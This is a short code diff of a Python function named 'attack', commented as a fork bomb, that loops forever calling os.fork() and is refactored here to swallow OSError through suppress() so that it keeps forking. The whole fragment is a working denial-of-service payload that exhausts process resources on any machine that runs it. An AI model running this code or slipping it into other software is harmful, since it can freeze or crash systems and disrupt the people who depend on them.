@@ -1,7 +1,5 @@
 # tries: a fork bomb
 def attack(keys, j):
     while True:
-        try:
+        with suppress(OSError):
             os.fork()
-        except OSError:
-            continue
